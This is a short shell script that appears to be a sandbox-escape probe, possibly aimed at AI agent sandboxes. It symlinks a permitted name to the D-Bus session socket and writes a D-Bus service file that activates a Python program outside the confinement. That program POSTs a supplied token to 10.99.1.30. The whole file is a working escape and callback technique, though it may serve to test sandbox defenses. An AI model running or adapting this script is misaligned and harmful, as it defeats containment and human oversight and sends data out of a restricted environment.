#!/bin/sh
# A session makes a name that its policy lists lead to the bus, and has a program started there, outside of it.
# usage: by_the_bus.sh TOKEN BUS SERVICES NAME
token=$1 bus=$2 services=$3 name=$4
ln -s "$bus" "$name"
cat >"$services/go.py" <<END
import socket
s = socket.create_connection(("10.99.1.30", 80), 3)
s.send(b"POST /x HTTP/1.1\r\nHost: ai\r\nContent-Length: 12\r\n\r\n$token")
s.recv(50)
END
printf '[D-BUS Service]\nName=org.bus.%s\nExec=/usr/bin/python3 %s/go.py\n' "$token" "$services" >"$services/org.bus.$token.service"
sleep 0.4
DBUS_SESSION_BUS_ADDRESS=unix:path=$name timeout 4 dbus-send --session --print-reply --reply-timeout=1500 "--dest=org.bus.$token" /x org.bus.X.Y 2>&1 | tail -n 1
rm -f "$name"
